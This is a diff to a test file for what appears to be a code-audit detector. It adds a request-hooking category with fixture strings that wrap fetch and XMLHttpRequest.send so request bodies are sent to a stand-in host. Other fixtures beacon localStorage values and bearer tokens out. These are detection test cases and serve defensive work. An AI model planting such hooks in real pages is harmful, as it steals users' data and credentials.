@@ -8,6 +8,7 @@ from support.packages import analysed, contents
 from audit.capabilities import mentions
 from audit.model.mention import (
     BELOW_HOME,
+    HOOKS_REQUESTS,
     INSERTED,
     ORDER,
     SENDS_KEPT,
@@ -68,6 +69,14 @@ FIRING = {
         "js = [\n'var v=w.localStorage.getItem(k);',\n'n.sendBeacon(\"https://a.invalid\",v)'].join('')",
         SENDS_KEPT,
     ),
+    "a page's requests": (
+        "js = 'f=w.fetch;w.fetch=function(u,o){navigator.sendBeacon(\"https://a.invalid\",o.body);return f(u,o)}'",
+        HOOKS_REQUESTS,
+    ),
+    "a page's older requests": (
+        "js = `XMLHttpRequest.prototype.send = function (b) { fetch('https://a.invalid/c', { body: b }) }`",
+        HOOKS_REQUESTS,
+    ),
     "a header for who asks": (
         "all = [b, 'https://a.invalid']; get(all, { headers: { Authorization: 'Bearer ' + t } })",
         TOLD,
@@ -116,6 +125,8 @@ SILENT = {
     "a client that asks its own server": (
         "js = \"fetch('/state').then(() => localStorage.getItem('k'))\""
     ),
+    "a client that replaces its own requests": "js = 'f=w.fetch;w.fetch=function(u){return f(\"/p?\"+u)}'",
+    "a client that counts its requests": "w.fetch = (u) => f('https://a.invalid/?u=' + u)",
     "a code that keeps": "js = \"localStorage.getItem('k')\"; see('https://a.invalid')",
     "far from who asks": "u = 'https://a.invalid';" + " " * 3000 + "h = { authorization: t }",
     "a document beside a secret": "o = { docs: 'https://a.invalid/keys', k: c.secretAccessKey }",
@@ -131,7 +142,7 @@ SILENT = {
     ),
     "an option of its own": "const A = ['--danger', '--allow-empty']",
 }  # fmt: skip
-_WORDS = {INSERTED, TELLS_TYPED, SENDS_KEPT, TOLD, BELOW_HOME, ORDER}
+_WORDS = {INSERTED, HOOKS_REQUESTS, TELLS_TYPED, SENDS_KEPT, TOLD, BELOW_HOME, ORDER}
 
 
 @pytest.mark.parametrize(("code", "what"), FIRING.values(), ids=FIRING)
